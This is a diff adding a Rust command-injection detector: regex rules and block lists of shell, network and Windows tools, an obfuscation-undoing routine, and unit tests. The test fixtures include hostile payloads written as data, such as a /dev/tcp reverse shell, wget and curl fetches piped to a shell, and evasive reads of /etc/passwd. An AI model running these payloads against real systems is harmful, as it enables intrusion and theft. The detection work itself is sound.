@@ -1,0 +1,193 @@
+//! OS command injection (Unix and Windows shells) and server-side code that spawns commands.
+//!
+//! A shell reads a command where a *separator* (`;`, `|`, `&&`, newline, backquote, `$(`) or the
+//! start of the value puts one. So the rule is a separator followed by a command name and an
+//! argument shape (`-x`, `/path`, `$VAR`, redirection), or by a command that is dangerous with any
+//! argument (`wget`, `nc`, `whoami`, `powershell`). Shell evasions are undone first: quotes and
+//! backslashes inside words (`c'a't`, `c\at`), empty expansions (`$@`, `${x}`, `$u`) and `$IFS`.
+//! Batch `FOR ... IN (...) DO` / `IF ... EQU` blocks, reverse shells, Shellshock, and Node.js /
+//! Perl code that reaches a shell (`require('child_process')`, `process.mainModule`) are matched
+//! directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
+//! command-like words, but not in that shape.
+
+use super::{stronger, Check, Family, Hit, Rules, Subject};
+use crate::finding::Severity::{Critical, High};
+use std::borrow::Cow;
+
+pub(crate) struct Cmdi {
+    rules: Rules,
+}
+
+/// Commands that are an attack after a separator when an argument shape follows.
+const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount)";
+
+/// Commands that are an attack after a separator whatever their arguments.
+const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
+
+impl Cmdi {
+    pub fn new() -> Result<Cmdi, String> {
+        // An argument shape: option, path, variable, redirection, glob, or end of the value.
+        let arg = r#"(?:\s+[-/~.$<>*?{]|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s*$)"#;
+        // A backquote is not a separator here: Markdown uses it for inline code; substitution is
+        // matched on its own below.
+        let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
+        let strong_after_sep = format!(r"{sep}\s*(?:\{{\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        let any_after_sep = format!(r"{sep}\s*(?:\{{\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s|$)");
+        let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
+        let table = [
+            (r"\(\s*\)\s*\{\s*[^}]*\}\s*;", Critical, 0.95, "Shellshock function definition"),
+            (r"\(\s*\)\s*\{\s*:?\s*;?", Critical, 0.9, "Shellshock function definition"),
+            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
+            (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\s*\[\s*['`]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
+            (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
+            (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
+            (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
+            (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
+            (r"\$\(\s*[a-z]+[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`", Critical, 0.85, "command substitution"),
+            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
+            (start_cmd.as_str(), High, 0.7, "command line"),
+            (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
+            (r"\{[a-z-]*,[a-z0-9-]*(?:,[a-z0-9-]*)*\}", High, 0.7, "brace expansion"),
+            (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
+            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
+            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]\d{3}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
+            (r"(?:^|[;\n])\s*\.(?:shell|system|databases|import|load)\b", High, 0.8, "SQLite shell command"),
+        ];
+        Ok(Cmdi { rules: Rules::new(Family::Cmdi, &table)? })
+    }
+}
+
+/// Undoes shell-level obfuscation: quotes and backslashes inside words, empty expansions.
+fn shell_fold(text: &str) -> Cow<'_, str> {
+    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$')) {
+        return Cow::Borrowed(text);
+    }
+    let b = text.as_bytes();
+    let mut out = String::with_capacity(text.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'\'' | b'"' => i += 1,
+            b'\\' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
+            b'$' => match b.get(i + 1) {
+                Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'0'..=b'9') => i += 2,
+                Some(b'{') => {
+                    let close = b[i..].iter().take(24).position(|&c| c == b'}');
+                    match close {
+                        Some(p) if b[i + 2..i + p].iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_') => {
+                            let name = &text[i + 2..i + p];
+                            if name == "ifs" {
+                                out.push(' ');
+                            }
+                            i += p + 1;
+                        }
+                        _ => {
+                            out.push('$');
+                            i += 1;
+                        }
+                    }
+                }
+                Some(c) if c.is_ascii_lowercase() => {
+                    // `$u`, `$ifs`: a short variable glued into a word expands to nothing (or a space).
+                    let len = b[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
+                    if &text[i + 1..i + 1 + len] == "ifs" {
+                        out.push(' ');
+                        i += 1 + len;
+                    } else if len <= 2 && b.get(i + 1 + len).map_or(true, |c| !c.is_ascii_alphanumeric()) && i > 0 && b[i - 1].is_ascii_alphanumeric() {
+                        i += 1 + len;
+                    } else {
+                        out.push('$');
+                        i += 1;
+                    }
+                }
+                _ => {
+                    out.push('$');
+                    i += 1;
+                }
+            },
+            _ => {
+                let ch_len = text[i..].chars().next().map_or(1, char::len_utf8);
+                out.push_str(&text[i..i + ch_len]);
+                i += ch_len;
+            }
+        }
+    }
+    Cow::Owned(out)
+}
+
+impl Check for Cmdi {
+    fn triggers(&self) -> &'static [&'static str] {
+        &[
+            ";", "|", "&", "`", "$(", "\n", "\r", "()", "/dev/", "mkfifo", "for ", "for+", "if ", "if/", "child_process", "process",
+            "_$$nd_func$$_", "constructor", "require", "function", "module", "console", "<!--", "sh ", "cmd", "powershell",
+            "{", "~", "@{", "mail", "rcpt", ".shell", ".system", ".databases", "whoami", "uname", "ifconfig",
+            "wget", "curl", "bin/", "ls ", "ll ", "cat ", "install", "ansible", "chef", "cscli", "cpulimit", "flock",
+            "visudo", "shutdown", "nohup", "strace", "time ", "rc ", "perf", "env ", "eval",
+        ]
+    }
+
+    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
+        let plain = self.rules.best(s.text);
+        let folded = shell_fold(s.text);
+        match folded {
+            Cow::Owned(f) if f != s.text => stronger(plain, self.rules.best(&f).map(|mut h| {
+                h.at = h.at.min(s.text.len());
+                h
+            })),
+            _ => plain,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::*;
+
+    #[test]
+    fn catches_cmdi() {
+        assert_family(
+            "attack.cmdi",
+            &[
+                "127.0.0.1; cat /etc/passwd",
+                "x | whoami",
+                "a && wget http://evil/x.sh",
+                "`whoami`",
+                "$(id)",
+                "; c'a't /et'c'/pas's'wd",
+                "www.google.com;c$@at /et$@c/pas$@swd",
+                "127.0.0.1;cat${IFS}/etc/passwd",
+                "() { :;}; /bin/bash -c 'id'",
+                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+                "curl http://x | sh",
+                "& cmd /c dir",
+                "| powershell -enc SQBFAFgA",
+                "FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
+                "IF /I \"%var%\" NEQ \"0\" ECHO x",
+                "require('child_process').exec('id')",
+                "\nping -c 3 127.0.0.1",
+                "time sh -c whoami",
+            ],
+            &[
+                "Tom & Jerry",
+                "Rock; paper; scissors",
+                "Good morning; top of the day to you",
+                "cats & dogs | birds",
+                "if x == y then",
+                "for each item in the list do something",
+                "Use `ls -la` to list files",
+                "Price: $5 | Tax: $1",
+                "a|b|c",
+                "key1;key2;key3",
+                "R&D department",
+                "The cat sat on the mat",
+                "user@example.com",
+                "{\"a\": 1}",
+                "See (above) and {below}",
+                "I'm 100% sure; it's fine",
+                "echo chamber",
+            ],
+        );
+    }
+}
